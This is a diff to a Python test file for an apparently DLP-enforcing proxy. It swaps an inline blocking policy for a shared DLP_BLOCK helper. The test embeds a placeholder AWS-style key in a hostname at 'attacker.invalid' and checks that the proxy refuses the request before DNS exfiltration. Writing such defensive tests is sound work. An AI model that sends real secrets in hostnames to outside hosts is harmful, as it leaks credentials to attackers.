@@ -14,16 +14,9 @@ from urllib.parse import urlparse
 import pytest
 
 from tests.helpers import network_events, read_tape
+from tests.security.helpers import DLP_BLOCK
 
 KEY = "AKIAIOSFODNN7EXAMPLQ"  # gitleaks' aws-access-key-id shape, not a real key
-
-ENFORCE = """
-version: 1
-mode: enforce
-default: ALLOW
-dlp:
-  severity_actions: {critical: BLOCK, high: BLOCK}
-"""
 
 
 def _absolute_form(proxy_url: str, host: str) -> bytes:
@@ -45,7 +38,7 @@ def _tape_bytes(tape) -> bytes:
 def test_a_secret_in_the_target_host_is_blocked_before_any_connection(
     start_proxy, policy_file, tmp_path, key: str
 ) -> None:
-    proxy = start_proxy(policy_file(ENFORCE))
+    proxy = start_proxy(policy_file(DLP_BLOCK))
     answer = _absolute_form(proxy.url, f"{key}.attacker.invalid")
     proxy.flush()
     # failcore's refusal, not a 502 from a DNS lookup that carried the key out.
